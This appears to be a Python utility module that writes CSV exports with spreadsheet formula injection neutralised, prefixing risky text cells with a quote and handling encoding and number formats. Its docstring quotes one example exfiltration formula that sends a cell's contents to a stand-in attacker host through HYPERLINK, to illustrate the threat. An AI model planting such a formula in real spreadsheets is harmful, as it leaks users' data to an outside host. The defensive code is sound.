"""CSV writing with spreadsheet formula injection neutralised.

A post reading ``=HYPERLINK("http://evil/?"&A1,"Click")`` becomes a live formula when the support
team opens complaints.csv in Excel or LibreOffice. OWASP's advice: prefix any text cell starting
with ``= + - @`` (and tab / carriage return, which some spreadsheets skip before parsing) with a
single quote. Only text cells are touched: numbers such as a negative week-over-week change stay
numbers. Files are UTF-8 with a BOM so Excel shows Chinese text correctly.
"""

from __future__ import annotations

import csv
import datetime as dt
import math
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any

ENCODING = "utf-8-sig"
_DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: str) -> str:
    return "'" + value if value.startswith(_DANGEROUS) else value


def cell(value: Any) -> str:
    """Render one value: '' for missing, ISO for datetimes, trimmed floats, neutralised text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float):
        if math.isnan(value) or math.isinf(value):
            return ""
        return f"{value:.4f}".rstrip("0").rstrip(".") if value != int(value) else str(int(value))
    if isinstance(value, int):
        return str(value)
    if isinstance(value, dt.datetime | dt.date):
        return value.isoformat()
    return neutralise(str(value))


def write_csv(path: Path, columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> Path:
    """Write ``rows`` (mappings) with exactly ``columns``, in order."""
    with path.open("w", encoding=ENCODING, newline="") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(columns)
        for row in rows:
            w.writerow([cell(row.get(c)) for c in columns])
    return path


def read_csv(path: Path) -> list[dict[str, str]]:
    if not path.exists():
        return []
    with path.open(encoding=ENCODING, newline="") as fh:
        return list(csv.DictReader(fh))


def write_raw(path: Path, columns: Sequence[str], rows: Iterable[Mapping[str, str]]) -> Path:
    """Rewrite already-rendered rows (trend.csv keeps earlier days' cells as they were written)."""
    with path.open("w", encoding=ENCODING, newline="") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(columns)
        for row in rows:
            w.writerow([row.get(c, "") or "" for c in columns])
    return path
